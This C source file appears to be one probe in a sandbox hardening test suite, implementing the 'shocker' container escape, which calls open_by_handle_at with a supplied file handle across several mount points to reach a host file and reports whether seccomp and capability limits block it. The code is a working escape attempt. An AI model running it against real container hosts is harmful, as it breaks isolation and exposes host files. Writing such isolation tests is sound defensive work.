// tries: open the host's secret file by its handle, open_by_handle_at(2) (the "shocker")
// wall: seccomp, capabilities
// control: root
#include "attack.h"
ATTACK
{
    struct { unsigned bytes; int type; unsigned char data[128]; } handle = {0};
    const char *hex = text("handle");
    for (; hex[0] && hex[1]; hex += 2) {
        int high = hex[0] <= '9' ? hex[0] - '0' : hex[0] - 'a' + 10, low = hex[1] <= '9' ? hex[1] - '0' : hex[1] - 'a' + 10;
        handle.data[handle.bytes++] = (unsigned char)(high << 4 | low);
    }
    handle.type = (int)number("handle_type");
    const char *mounts[] = {"/", ".", "/tmp", "/etc/hostname", "/etc/resolv.conf", text("dir")};
    for (unsigned i = 0; i < 6; i++) {
        long mount = sc(__NR_openat, AT(mounts[i]), O_RDONLY);
        if (mount < 0) continue;
        long fd = sc(__NR_open_by_handle_at, mount, &handle, O_RDONLY);
        attempts++;
        if (fd < 0) say("open_by_handle_at: %s", errno_name(fd));
        else show("open_by_handle_at", fd);
    }
}
